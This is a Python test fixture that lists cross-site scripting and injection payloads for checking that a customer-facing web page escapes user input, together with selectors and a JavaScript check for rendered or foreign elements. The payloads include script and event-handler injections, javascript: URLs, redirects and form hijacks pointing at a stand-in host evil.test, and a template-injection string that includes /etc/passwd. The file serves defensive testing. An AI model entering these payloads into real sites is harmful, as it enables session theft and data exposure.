"""What customers, and whoever sends their words, may write into any field; and how a page shows that it fell for it."""

ATTACKS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<body onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:window.hit=1>",
    "<a href=javascript:window.hit=1>x</a>",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    '"><script>window.hit=1</script>',
    "'><script>window.hit=1</script>",
    '" onmouseover="window.hit=1',
    "' onfocus='window.hit=1' autofocus='",
    '"autofocus onfocus=window.hit=1 x="',
    "</textarea><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</option></select><script>window.hit=1</script>",
    "<details open ontoggle=window.hit=1>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<meta http-equiv=refresh content=0;url=http://evil.test>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test><input name=csrf></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "{{ 7 * 191 }}{% include '/etc/passwd' %}${7*191}",
    "<!--<img src=--><img src=x onerror=window.hit=1>//-->",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<x style=animation-name:x onanimationstart=window.hit=1>\u202e<b>",
)

ELEMENTS = "main :is(script, style, link, meta, base, iframe, img, math, x, body, [onload], [onerror], [onfocus])"
FOREIGN = """[...document.querySelectorAll("main [href], main [action]")]
  .map((each) => each.getAttribute("href") ?? each.getAttribute("action"))
  .filter((address) => !/^(\\/desk\\/|#|\\?)/.test(address) && address !== "/desk")"""
